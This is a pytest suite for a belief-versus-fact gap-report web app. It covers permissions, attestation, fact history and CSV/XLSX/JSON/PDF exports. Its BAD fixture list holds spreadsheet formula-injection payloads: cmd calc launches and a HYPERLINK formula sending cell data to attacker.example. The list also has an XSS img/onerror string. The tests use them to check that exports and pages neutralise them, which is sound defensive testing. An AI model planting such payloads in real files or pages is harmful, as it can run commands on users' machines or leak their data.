"""Fact reports and the gap report through the web: who may do what, versions, exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from pypdf import PdfReader
from sqlalchemy import select

from assessment.extensions import db
from assessment.models import FactValue
from tests.conftest import (
    add_user,
    complete_answers,
    log_in,
    open_test_cycle,
    shipped_catalogue,
    submit_answers,
)

CYCLE = "2026-Q4"
CATALOGUE = shipped_catalogue()
CEO = CATALOGUE.current_form("ceo")
BACKUP_BELIEF = next(i for i in CEO.items if i.type == "belief" and i.fact == "backup_restore_test")
TODAY = dt.date.today().isoformat()


@pytest.fixture
def people(app):
    add_user(app, "admin@example.com", permissions=("admin",))
    add_user(app, "it@example.com", role="it_manager", permissions=("fact_owner",), name="Ivy IT")
    add_user(app, "legal@example.com", role="legal", permissions=("fact_owner",))
    add_user(app, "chair@example.com", role="cio", permissions=("committee",), name="Chair")
    add_user(app, "ceo@example.com", role="ceo", name="Casey Chief")
    add_user(app, "coord@example.com", permissions=("hr_coordinator",))
    open_test_cycle(app, CYCLE)
    return app


def as_user(app, email):
    client = app.test_client()
    log_in(client, email)
    return client


def enter(client, fact_id, **fields):
    data = {"as_of": TODAY, "evidence": "Restore log RL-7", **fields}
    return client.post(f"/facts/{CYCLE}/{fact_id}", data=data)


def test_owner_enters_own_fact_but_not_other_owners(people):
    it = as_user(people, "it@example.com")
    assert enter(it, "backup_restore_test", category="over_12m").status_code == 302
    assert enter(it, "vendor_breach_terms", number="95").status_code == 403
    with people.app_context():
        row = db.session.scalar(select(FactValue))
        assert (row.fact_id, row.category, row.evidence, row.entered_by.name) == (
            "backup_restore_test",
            "over_12m",
            "Restore log RL-7",
            "Ivy IT",
        )


def test_numbers_and_dates_are_mapped_to_their_band(people):
    it = as_user(people, "it@example.com")
    enter(it, "patch_latency_critical", number="12")
    forty_days_ago = (dt.date.today() - dt.timedelta(days=40)).isoformat()
    enter(it, "backup_restore_test", date=forty_days_ago)
    with people.app_context():
        rows = {r.fact_id: (r.value, r.category) for r in db.session.scalars(select(FactValue))}
    assert rows["patch_latency_critical"] == (12, "under_15")
    assert rows["backup_restore_test"] == (forty_days_ago, "within_quarter")


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"number": "150"}, "between 0 and 100"),
        ({"number": "ten"}, "Enter a number"),
        ({"number": "50", "category": "all"}, "keep one and clear the other"),
        ({}, "Enter a number or choose a band"),
    ],
    ids=["out-of-range", "not-a-number", "two-values", "nothing"],
)
def test_invalid_fact_values_get_clear_messages(people, fields, message):
    it = as_user(people, "it@example.com")
    response = enter(it, "mfa_email", **fields)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)


def test_delegation_lets_another_person_report_a_fact(people):
    admin = as_user(people, "admin@example.com")
    it = as_user(people, "it@example.com")
    assert enter(it, "training_completion", number="90").status_code == 403
    with people.app_context():
        from assessment import queries

        person = queries.find_person_by_email(db.session, "it@example.com")
        person_id = person.id
    admin.post(
        "/facts/delegations", data={"fact_id": "training_completion", "person_id": str(person_id)}
    )
    assert enter(it, "training_completion", number="90").status_code == 302


def test_change_after_attestation_needs_a_reason_and_keeps_history(people):
    it = as_user(people, "it@example.com")
    enter(it, "mfa_remote_access", category="partly")
    chair = as_user(people, "chair@example.com")
    assert chair.post(f"/facts/{CYCLE}/attest").status_code == 302
    refused = enter(it, "mfa_remote_access", category="yes")
    assert refused.status_code == 422 and "say why" in refused.get_data(as_text=True)
    assert (
        enter(
            it, "mfa_remote_access", category="yes", reason="Last VPN group moved to MFA"
        ).status_code
        == 302
    )
    with people.app_context():
        rows = db.session.scalars(select(FactValue).order_by(FactValue.revision)).all()
    assert [(r.revision, r.category, r.reason) for r in rows] == [
        (1, "partly", ""),
        (2, "yes", "Last VPN group moved to MFA"),
    ]
    page = chair.get(f"/facts/{CYCLE}").get_data(as_text=True)
    assert "changed since attestation" in page


def test_only_committee_attests(people):
    it = as_user(people, "it@example.com")
    assert it.post(f"/facts/{CYCLE}/attest").status_code == 403


def test_last_cycles_values_are_offered_but_not_reconfirmed(people):
    it = as_user(people, "it@example.com")
    enter(it, "mfa_remote_access", category="partly")
    with people.app_context():
        from assessment import queries

        queries.create_cycle(
            db.session,
            "2027-Q1",
            dt.date.today() + dt.timedelta(days=60),
            dt.date.today() + dt.timedelta(days=90),
        )
        db.session.commit()
    page = it.get("/facts/2027-Q1").get_data(as_text=True)
    assert "not re-confirmed" in page and "Last quarter: Partly" in page
    form = it.get("/facts/2027-Q1/mfa_remote_access").get_data(as_text=True)
    assert re.search(r'<input checked[^>]*value="partly"', form)
    with people.app_context():
        from assessment import queries

        assert queries.fact_categories(db.session, "2027-Q1") == {}


def test_gap_report_headline_shows_ceo_believing_backups_are_tested(people):
    answers = complete_answers("ceo")
    answers[BACKUP_BELIEF.id] = "within_quarter"
    submit_answers(people, "ceo@example.com", answers)
    it = as_user(people, "it@example.com")
    enter(it, "backup_restore_test", category="over_12m")
    chair = as_user(people, "chair@example.com")
    html = chair.get(f"/gaps/{CYCLE}").get_data(as_text=True)
    headline = html.split('class="big-sentence">', 1)[1].split("</p>", 1)[0]
    assert "Last successful restore test" in headline
    assert "the CEO believes it is better than the owner reports" in headline
    assert "▲ optimistic" in html
    svg = chair.get(f"/gaps/{CYCLE}/chart.svg")
    assert svg.mimetype == "image/svg+xml" and b"<svg" in svg.data


def test_executive_sees_own_pair_on_results_page(people):
    answers = complete_answers("ceo")
    answers[BACKUP_BELIEF.id] = "within_quarter"
    submit_answers(people, "ceo@example.com", answers)
    enter(as_user(people, "it@example.com"), "backup_restore_test", category="over_12m")
    results = as_user(people, "ceo@example.com").get(f"/respond/{CYCLE}/results")
    assert "More optimistic than the fact report" in results.get_data(as_text=True)


@pytest.mark.parametrize(
    ("email", "status"),
    [
        ("coord@example.com", 403),
        ("ceo@example.com", 403),
        ("it@example.com", 403),
        ("chair@example.com", 200),
        ("admin@example.com", 200),
    ],
    ids=["hr-coordinator", "executive", "fact-owner", "committee", "admin"],
)
def test_gap_report_is_for_committee_and_administrators_only(people, email, status):
    client = as_user(people, email)
    for path in (f"/gaps/{CYCLE}", f"/gaps/{CYCLE}/chart.svg", f"/gaps/{CYCLE}/export.csv"):
        assert client.get(path).status_code == status, path


def test_hr_coordinator_cannot_see_fact_reports(people):
    assert as_user(people, "coord@example.com").get(f"/facts/{CYCLE}").status_code == 403


BAD = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-12.5",
    '"><img src=x onerror=alert(1)>',
    "right\u202eleft 🔐",
]


@pytest.fixture
def bad_cycle(app):
    add_user(app, "chair@example.com", permissions=("committee",), name="Chair")
    add_user(app, "it@example.com", role="it_manager", permissions=("fact_owner",))
    for k, name in enumerate(BAD):
        add_user(app, f"ceo{k}@example.com", role="ceo", name=name)
    open_test_cycle(app, CYCLE)
    for k in range(len(BAD)):
        answers = complete_answers("ceo")
        answers[BACKUP_BELIEF.id] = "within_quarter"
        submit_answers(app, f"ceo{k}@example.com", answers)
    enter(
        as_user(app, "it@example.com"),
        "backup_restore_test",
        category="over_12m",
        evidence='=HYPERLINK("x")',
    )
    return as_user(app, "chair@example.com")


def test_csv_export_neutralises_formulas_and_keeps_numbers(bad_cycle):
    response = bad_cycle.get(f"/gaps/{CYCLE}/export.csv")
    assert (
        response.headers["Content-Disposition"] == f'attachment; filename="gap-report-{CYCLE}.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert len(names) == len(BAD)
    for original in (name.strip() for name in BAD):  # names are stored trimmed
        dangerous = original.startswith(("=", "+", "-", "@")) and original != "-12.5"
        assert ("'" + original if dangerous else original) in names


def test_xlsx_export_neutralises_formulas_in_every_sheet(bad_cycle):
    book = openpyxl.load_workbook(io.BytesIO(bad_cycle.get(f"/gaps/{CYCLE}/export.xlsx").data))
    assert book.sheetnames == [
        "Beliefs and facts",
        "By role",
        "By fact",
        "Reported facts",
        "Comments to the committee",
    ]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value != "-12.5":
                    assert not cell.value.startswith(("=", "+", "@", "\t", "\r", "-")), cell.value
    names = [row[1].value for row in book["Beliefs and facts"].iter_rows(min_row=2)]
    assert "'=cmd|' /C calc'!A0" in names and "-12.5" in names
    role_row = [c.value for c in next(book["By role"].iter_rows(min_row=2))]
    assert role_row[0] == "CEO" and role_row[2] == len(BAD)  # counts stay numbers


def test_json_export_has_the_api_shape(bad_cycle):
    body = bad_cycle.get(f"/gaps/{CYCLE}/export.json").get_json()
    # the API's gap shape, the reported facts, and the comments written to the committee
    # (GET …/comments's shape)
    assert set(body) == {"pairs", "by_role", "facts", "comments"}
    assert body["facts"]["backup_restore_test"]["evidence"] == '=HYPERLINK("x")'

    assert set(body["pairs"][0]) == {"email", "role", "item", "fact", "belief", "actual", "class"}
    assert body["by_role"]["ceo"]["optimistic"] == len(BAD)
    assert set(body["by_role"]["ceo"]) == {
        "aligned",
        "optimistic",
        "pessimistic",
        "unknown",
        "kappa",
        "optimism_p",
    }


def test_pdf_export_opens_and_carries_the_headline(bad_cycle):
    response = bad_cycle.get(f"/gaps/{CYCLE}/export.pdf")
    assert response.mimetype == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
    assert f"Gap report {CYCLE}" in text and "Last successful restore test" in text


def test_gap_report_page_escapes_names(bad_cycle):
    html = bad_cycle.get(f"/gaps/{CYCLE}").get_data(as_text=True)
    assert "<img src=x" not in html
